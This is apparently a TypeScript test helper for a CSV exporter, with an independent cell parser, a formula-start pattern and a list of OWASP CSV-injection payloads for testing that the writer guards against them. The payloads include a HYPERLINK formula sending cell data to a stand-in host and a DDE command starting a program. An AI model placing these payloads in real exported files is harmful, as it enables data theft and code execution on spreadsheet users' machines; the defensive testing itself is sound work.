/**
 * The cells of CSV text exactly as a spreadsheet meets them: the enclosing double quotes taken
 * off, doubled quotes undone, and nothing else (no guard undone, unlike parseCsv). Written
 * independently of src/operators/csv.ts, so the tests do not check the writer with itself.
 */
export const rawCells = (text: string): string[][] => {
  const rows: string[][] = [];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|\n|$)/y;
  let row: string[] = [];
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const m = cell.exec(text);
    if (m === null || (m[0] === "" && at === text.length)) throw new Error(`not CSV at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
    const [, body = "", end] = m;
    row.push(body.startsWith('"') ? body.slice(1, -1).replaceAll('""', '"') : body);
    if (end !== ",") {
      rows.push(row);
      row = [];
    }
  }
  return rows;
};

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV Injection"). */
export const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * OWASP's CSV-injection payloads (and the issue's): each would run as a formula, open a link or
 * start a program if written as is. The last two begin with a quote already: they must read
 * back with it.
 */
export const OWASP_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  '="=1"',
  "'=1+1",
  "''@SUM(1)",
];
